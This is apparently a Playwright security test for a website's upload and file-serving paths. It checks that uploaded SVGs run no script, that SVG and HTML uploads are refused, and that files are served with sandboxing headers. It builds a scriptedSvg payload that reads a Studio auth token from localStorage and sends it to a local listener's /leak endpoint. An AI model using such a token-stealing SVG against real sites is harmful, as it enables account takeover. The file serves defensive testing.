import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { expect, type Page, test } from '@playwright/test'
import { type SiteCopy, startSiteCopy } from '@scripts/lib/site-copy'

/**
 * An uploaded SVG runs no script, in Chromium, on either origin that serves uploads (docs/security.md,
 * third round): before, a page that sent the editor's tab to such an address read the Studio's token
 * from the site's origin and wrote documents from the lake's. The production build with
 * CONTENT_LAKE=local; the SVG is put into the lake's working copy directly, as one uploaded before the
 * lake refused SVG would be there (the refusal of the upload is checked here too).
 *
 * The SVG's script would set the title and call a listener of this test. The same SVG from the
 * listener itself, without the lake's headers, does both: the probe works, so silence means blocked.
 */

const PORT = Number(process.env.E2E_UPLOADS_PORT ?? 3127)
const TOKEN_KEY = '__studio_auth_token_local'

let site: SiteCopy
let lakeDir: string
let lake: string
let listener: Server
let listenerOrigin: string
let heard: string[] = []

function scriptedSvg(): Buffer {
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><script>
      document.title = 'script ran';
      let token = 'none';
      try { token = localStorage.getItem('${TOKEN_KEY}') ?? 'none' } catch { token = 'storage blocked' }
      new Image().src = '${listenerOrigin}/leak?token=' + encodeURIComponent(token);
    </script><rect width="40" height="30" fill="teal"/></svg>`,
  )
}

test.describe.configure({ mode: 'serial' })
test.setTimeout(90_000)

test.beforeAll(async () => {
  listener = createServer((request, response) => {
    if (request.url === '/control.svg') {
      response.writeHead(200, { 'content-type': 'image/svg+xml' })
      return void response.end(scriptedSvg())
    }
    // The browser also asks for a favicon: only the script's call counts.
    if (request.url?.startsWith('/leak')) heard.push(request.url)
    response.writeHead(204)
    response.end()
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  listenerOrigin = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
  lakeDir = path.join(mkdtempSync(path.join(tmpdir(), 'content-lake-uploads-')), 'lake')
  site = await startSiteCopy({
    name: '.next-e2e-uploads',
    port: PORT,
    env: { CONTENT_LAKE: 'local', CONTENT_LAKE_DIR: lakeDir },
  })
  const origin = /Local Content Lake on (http:\/\/localhost:\d+)/.exec(site.output())?.[1]
  if (!origin) throw new Error(`The server did not start the local Content Lake:\n${site.output()}`)
  lake = origin
})

test.afterAll(async () => {
  await site?.stop()
  listener?.close()
})

test.beforeEach(() => {
  heard = []
})

/**
 * What the listener heard once the control SVG (served by the listener, no token in its storage) has
 * run: anything the page before it sent has arrived by then. Only the control's call means blocked.
 */
async function heardAfterControl(page: Page): Promise<string[]> {
  await page.goto(`${listenerOrigin}/control.svg`)
  await expect(page).toHaveTitle('script ran')
  await expect.poll(() => heard.length).toBeGreaterThan(0)
  return heard
}

const CONTROL_ONLY = ['/leak?token=none']

async function lakeToken(): Promise<string> {
  const { token } = (await (await fetch(`${lake.replace('localhost', '127.0.0.1')}/local/session`)).json()) as {
    token: string
  }
  return token
}

test('the lake refuses an SVG upload, and an SVG in its working copy runs no script on its origin', async ({
  page,
}) => {
  const token = await lakeToken()
  const svg = scriptedSvg()
  const upload = await fetch(`${lake.replace('localhost', '127.0.0.1')}/v2025-02-19/assets/images/production`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'image/svg+xml' },
    body: new Uint8Array(svg),
  })
  expect(upload.status).toBe(415)

  const file = `${createHash('sha1').update(svg).digest('hex')}-40x30.svg`
  mkdirSync(path.join(lakeDir, 'assets', 'production'), { recursive: true })
  writeFileSync(path.join(lakeDir, 'assets', 'production', file), svg)
  // A token where a page of the lake's origin could read it, as the Studio keeps one on the site's.
  await page.goto(`${lake}/ping`)
  await page.evaluate(
    ([key, value]) => localStorage.setItem(key as string, value as string),
    [TOKEN_KEY, JSON.stringify({ token })],
  )

  const answer = await page.goto(`${lake}/images/local/production/${file}`)
  expect(answer?.status()).toBe(200)
  expect(answer?.headers()['content-type']).toBe('image/svg+xml')
  expect(answer?.headers()['content-security-policy']).toContain('sandbox')
  // The picture is shown, its script is not run.
  await expect(page.locator('rect')).toBeAttached()
  expect(await page.title()).not.toBe('script ran')
  expect(await heardAfterControl(page)).toEqual(CONTROL_ONLY)
})

test('the site’s /images/ path serves no SVG, and its pictures carry the same policy', async ({ page }) => {
  const svg = scriptedSvg()
  const file = `${createHash('sha1').update(svg).digest('hex')}-40x30.svg`
  mkdirSync(path.join(lakeDir, 'assets', 'production'), { recursive: true })
  writeFileSync(path.join(lakeDir, 'assets', 'production', file), svg)
  // The Studio keeps its token in the site's origin.
  await page.goto(`${site.url}/robots.txt`)
  await page.evaluate((key) => localStorage.setItem(key, JSON.stringify({ token: 'secret' })), TOKEN_KEY)

  const answer = await page.goto(`${site.url}/images/local/production/${file}`)
  expect(answer?.status()).toBe(404)
  expect(await page.title()).not.toBe('script ran')
  expect(await heardAfterControl(page)).toEqual(CONTROL_ONLY)

  // A raster picture of the lake: not served at /images/ from outside either (issue 42, L3), only to the
  // image optimiser inside the server, whose answer is an image with a policy that runs nothing (Next's
  // own sandbox for optimised images, which the server keeps: docs/security.md, fourth review, L4).
  const picture = (await (
    await fetch(
      `${lake.replace('localhost', '127.0.0.1')}/v2025-02-19/data/query/production?query=${encodeURIComponent('*[_type == "sanity.imageAsset"][0].path')}`,
      { headers: { authorization: `Bearer ${await lakeToken()}` } },
    )
  ).json()) as { result: string | null }
  expect(picture.result).toMatch(/^images\/local\/production\/.+\.jpg$/)
  expect((await page.request.get(`${site.url}/${picture.result}?w=40`)).status()).toBe(404)
  const html = await (await page.request.get(`${site.url}/leistungen`)).text()
  const optimised = /\/_next\/image\?url=[^"\s]+/.exec(html)?.[0]?.replaceAll('&amp;', '&') ?? ''
  const raster = await page.request.get(`${site.url}${optimised}`)
  expect(raster.status()).toBe(200)
  expect(raster.headers()['content-type']).toMatch(/^image\//)
  expect(raster.headers()['content-security-policy']).toMatch(/\bsandbox\b/)
  expect(raster.headers()['content-security-policy']).not.toContain('unsafe-inline')
  expect(raster.headers()['x-content-type-options']).toBe('nosniff')
})

test('the site’s /files/ path serves the lake’s files as downloads with the same policy; no page file is taken', async ({
  page,
}) => {
  const token = await lakeToken()
  const upload = (body: Buffer, filename: string, contentType: string) =>
    fetch(
      `${lake.replace('localhost', '127.0.0.1')}/v2025-02-19/assets/files/production?filename=${encodeURIComponent(filename)}`,
      {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': contentType },
        body: new Uint8Array(body),
      },
    )
  const pdf = Buffer.from(`%PDF-1.4\n% Preisliste ${Date.now()}\n%%EOF\n`)
  const created = await upload(pdf, 'Preisliste Glasreinigung.pdf', 'application/pdf')
  expect(created.status).toBe(200)
  const { document: asset } = (await created.json()) as { document: { path: string } }
  expect(asset.path).toMatch(/^files\/local\/production\/[0-9a-f]{40}\.pdf$/)

  const answer = await page.request.get(`${site.url}/${asset.path}`)
  expect(answer.status()).toBe(200)
  expect(Buffer.from(await answer.body()).equals(pdf)).toBe(true)
  expect(answer.headers()['content-type']).toBe('application/pdf')
  expect(answer.headers()['content-disposition']).toMatch(/^attachment; filename="Preisliste Glasreinigung\.pdf"/)
  expect(answer.headers()['content-security-policy']).toContain(
    "default-src 'none'; style-src 'unsafe-inline'; sandbox",
  )
  expect(answer.headers()['x-content-type-options']).toBe('nosniff')
  const named = await page.request.get(`${site.url}/${asset.path}/preisliste-2026.pdf?dl=preise.pdf`)
  expect(named.headers()['content-disposition']).toMatch(/^attachment; filename="preise\.pdf"/)

  // Followed in the browser, the link downloads the file instead of opening a page of the site.
  const download = page.waitForEvent('download')
  await page.goto(`${site.url}/robots.txt`)
  await page.evaluate((href) => {
    const link = document.createElement('a')
    link.href = href
    link.textContent = 'Preisliste'
    document.body.append(link)
    link.click()
  }, `/${asset.path}`)
  expect((await download).suggestedFilename()).toBe('Preisliste Glasreinigung.pdf')

  // A page in disguise never enters the lake, so it can never be served here.
  expect((await upload(scriptedSvg(), 'preise.txt', 'text/plain')).status).toBe(415)
  expect((await upload(Buffer.from('<!doctype html><script>1</script>'), 'seite.html', 'text/html')).status).toBe(415)
  // Names other than the CDN's are not forwarded.
  expect((await page.request.get(`${site.url}/files/local/production/preisliste.pdf`)).status()).toBe(404)
  expect((await page.request.get(`${site.url}/files/other/production/${asset.path.split('/').pop()}`)).status()).toBe(
    404,
  )
})
